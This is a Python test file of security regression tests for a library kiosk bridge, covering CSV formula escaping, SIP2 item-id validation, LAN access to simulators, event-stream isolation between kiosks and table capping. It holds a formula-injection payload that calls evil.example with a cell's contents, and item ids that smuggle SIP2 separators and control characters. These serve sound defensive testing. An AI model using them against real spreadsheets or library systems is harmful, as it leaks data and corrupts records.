"""The smaller findings of the second security round, each written as the attack: a formula typed
at the kiosk reaching a staff spreadsheet, item ids that break SIP2 arriving from the hub or the
tags API, the simulators driven from the LAN, and a month of year 1."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from bridge.app import create_app
from bridge.circulation.replay_report import as_csv
from bridge.db.models import ReplayLine
from station_core.spreadsheet import safe_cell
from tests.conftest import free_port, station_profile
from tests.security.test_attacks import PASSWORD, from_address

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_typed_at_the_kiosk_is_text_in_the_replay_report() -> None:
    line = ReplayLine(run_id=1, txn_id="t", kind="checkin", item_id=FORMULA, title="@SUM(A1)",
                      done_at=datetime.now(UTC), result="refused", message="-2+3")
    rows = list(csv.DictReader(io.StringIO(as_csv([line]))))
    assert rows[0]["item_id"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert rows[0]["title"].startswith("'") and rows[0]["message"].startswith("'")
    assert [safe_cell(v) for v in (12, -3, "plain", "\tTAB")] == [12, -3, "plain", "'\tTAB"]


@pytest.fixture
def staff_client(tmp_path: Path):
    app = create_app(station_profile(tmp_path, ils_port=free_port()))
    with TestClient(app) as client:
        app.state.station.auth.create_user("admin1", PASSWORD, "admin")
        csrf = client.post("/api/v1/staff/login", json={"username": "admin1",
                                                         "password": PASSWORD}).json()["csrf_token"]
        yield client, app.state.station, {"X-CSRF-Token": csrf}


def test_item_ids_that_would_break_sip2_are_refused_before_the_ils(staff_client) -> None:
    client, station, _csrf = staff_client
    for bad in ("3100%7CAOX", "3100%0DAO", "3" * 80):
        assert client.get(f"/api/v1/staff/tags/items/{bad}").status_code == 422, bad
    from bridge.fleet.commands import handlers

    load = handlers(station)["load_hold"]
    for bad in ("3100\nAOevil", "31\x0000", "31|AO"):
        with pytest.raises(ValueError):
            asyncio.run(load({"item_id": bad}, "hub:desk1"))


def test_the_monthly_report_of_year_one_is_a_clear_refusal(staff_client) -> None:
    client, _station, _csrf = staff_client
    assert client.get("/console/reports/monthly.csv?month=0001-01").status_code == 422
    assert client.get("/console/reports/monthly.csv?month=2026-11").status_code == 200


def test_the_simulators_answer_this_machine_only(staff_client) -> None:
    client, _station, _csrf = staff_client
    assert client.post("/sim/boards/A/doors/1", json={"action": "close"}).status_code == 200
    lan = from_address(client, "10.0.4.1")
    assert lan.post("/sim/boards/A/doors/1", json={"action": "open"}).status_code == 403


def test_a_kiosk_hears_nothing_of_another_kiosks_patron(tmp_path: Path, demo_ils) -> None:
    """The attack: an enrolled kiosk (or a stolen credential) listened to the event stream and
    learnt every item borrowed and returned at the other kiosks, and when sessions began."""
    from tests.bridge.circulation.test_kiosk_api import BOOKS, MARIA, MARIA_PIN
    from tests.conftest import wait_for
    from tests.security.test_attacks import enrolled, events_until

    profile = station_profile(tmp_path, ils_port=demo_ils.port, kiosk={"trust_loopback": False})
    app = create_app(profile)
    with TestClient(app) as client:
        own, spy = enrolled(client, "lobby"), enrolled(client, "spy")
        wait_for(lambda: not client.get("/api/v1/status", headers=own).json()["offline"])
        with client.websocket_connect("/api/v1/events", headers=spy) as spying, \
                client.websocket_connect("/api/v1/events", headers=own) as mine:
            token = client.post("/api/v1/sessions", json={"barcode": MARIA, "pin": MARIA_PIN},
                                headers=own).json()["token"]
            session = {**own, "X-Kiosk-Session": token}
            assert client.post("/api/v1/checkout", json={"item_id": BOOKS[0]},
                               headers=session).json()["ok"]
            assert client.post("/api/v1/checkin", json={"item_id": BOOKS[0]}, headers=own).json()["ok"]
            assert events_until(mine, "checkin")["item_id"] == BOOKS[0]  # the kiosk itself hears
            # A marker event every kiosk hears: the spy's stream is read up to it.
            app.state.station.bus.publish("marker")
            heard = []
            event = spying.receive_json()
            while event["type"] != "marker":
                heard.append(event)
                event = spying.receive_json()
        assert not [e for e in heard if e["type"] in ("checkout", "checkin", "session")], heard
        assert BOOKS[0] not in str(heard) and MARIA not in str(heard)


def test_unauthenticated_rows_do_not_grow_for_ever(tmp_path: Path) -> None:
    """The attack: every wrong guess from a new address added an attempt row and an audit row,
    for ever, on an SD card. Old rows go and the tables are capped; a lock in force stays."""
    from datetime import timedelta

    from sqlmodel import Session, func, select

    from bridge.access import housekeeping
    from bridge.db.engine import open_database
    from bridge.db.models import AttemptLimit, AuditEntry
    from bridge.local_time import utcnow

    engine = open_database(f"sqlite:///{tmp_path}/station.db")
    long_ago, now = utcnow() - timedelta(days=3), utcnow()
    with Session(engine) as db:
        for n in range(300):
            db.add(AttemptLimit(key=f"staff-peer:10.0.{n // 250}.{n % 250}", kind="staff-peer",
                                failures=3, last_failure_at=long_ago if n < 200 else now))
        db.add(AttemptLimit(key="card:locked", kind="card", failures=5, last_failure_at=long_ago,
                            locked_until=now + timedelta(hours=1)))
        for n in range(120):
            db.add(AuditEntry(at=long_ago if n < 100 else now, actor="(not signed in)",
                              action="login_failed", target="x"))
        db.commit()
    housekeeping.MAX_AUDIT_ROWS = 10
    try:
        housekeeping.bound_tables(engine, audit_days=1)
    finally:
        housekeeping.MAX_AUDIT_ROWS = 200_000
    with Session(engine) as db:
        keys = set(db.exec(select(AttemptLimit.key)))
        audits = db.exec(select(func.count()).select_from(AuditEntry)).one()
    assert "card:locked" in keys and len(keys) == 101  # the recent hundred and the lock in force
    assert audits == 10
